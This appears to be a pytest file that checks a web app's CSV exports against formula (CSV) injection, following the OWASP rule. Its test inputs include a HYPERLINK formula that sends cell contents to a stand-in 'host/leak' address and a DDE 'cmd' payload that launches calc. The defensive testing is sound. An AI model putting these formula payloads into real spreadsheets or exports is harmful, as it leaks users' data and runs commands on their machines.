"""CSV injection: every CSV the app writes neutralises cells a spreadsheet would run
(OWASP's CSV Injection rule), and leaves numbers as numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest

from ablt_core import UsageTotals
from webapp.statistics import usage
from webapp.text import csv_safe

LEAK = '=HYPERLINK("http://host/leak?x="&A1, "x")'


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (LEAK, "'" + LEAK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ann Lee (ann)", "Ann Lee (ann)"),
        ("a=b", "a=b"),  # only a leading trigger counts
        ("", ""),
    ],
)
def test_a_text_cell_starting_with_a_trigger_gets_a_leading_quote(cell: str, written: str) -> None:
    assert csv_safe.neutralise_cell(cell) == written


@pytest.mark.parametrize("number", [-5, -0.5, 0, 7, 3.25])
def test_numbers_stay_numbers_even_when_negative(number: float) -> None:
    assert csv_safe.neutralise_cell(number) == number


def totals(words: int) -> UsageTotals:
    return UsageTotals.model_validate(
        {
            "original_tokens": 0,
            "enchancement_tokens": 0,
            "response_tokens": 0,
            "total_tokens": 0,
            "original_words": words,
            "enchancement_words": 0,
            "response_words": 0,
            "total_words": words,
        }
    )


def test_the_per_member_csv_neutralises_a_member_named_as_a_formula() -> None:
    frame = usage.breakdown_frame(
        [usage.MemberUsage(f"{LEAK} (mallory)", totals(10)), usage.MemberUsage("Ann", totals(5))],
        "words",
    )
    written = rows(usage.csv_bytes(frame))
    assert written[0] == ["member", "original", "enhancement", "response", "total"]
    assert written[1][0] == "'" + LEAK + " (mallory)"
    assert written[1][1:] == ["10", "0", "0", "10"]  # numbers as written, no quote
    assert written[2][0] == "Ann"


def test_the_table_on_screen_is_neutralised_too_and_keeps_its_number_types() -> None:
    # st.dataframe's own toolbar writes a CSV of what it shows.
    frame = pd.DataFrame({"member": [LEAK, "Bob"], "total": [3, -4]})
    safe = csv_safe.safe_frame(frame)
    assert list(safe["member"]) == ["'" + LEAK, "Bob"]
    assert list(safe["total"]) == [3, -4] and safe["total"].dtype == frame["total"].dtype
    assert list(frame["member"]) == [LEAK, "Bob"]  # the original is left as it was


def test_the_daily_csv_keeps_iso_dates_and_integers() -> None:
    day = dt.date(2026, 11, 20)
    frame = usage.daily_frame(
        usage.UsageStatistics.model_validate(
            {
                "total": totals(0).model_dump(),
                "items": [{**totals(4).model_dump(), "date": "2026-11-20"}],
            }
        ),
        day,
        day,
        "words",
    )
    assert rows(usage.csv_bytes(frame))[1] == ["2026-11-20", "4", "0", "0", "4"]


def test_a_column_name_is_neutralised_as_well() -> None:
    frame = pd.DataFrame({"=cmd": [1]})
    assert rows(csv_safe.csv_bytes(frame))[0] == ["'=cmd"]
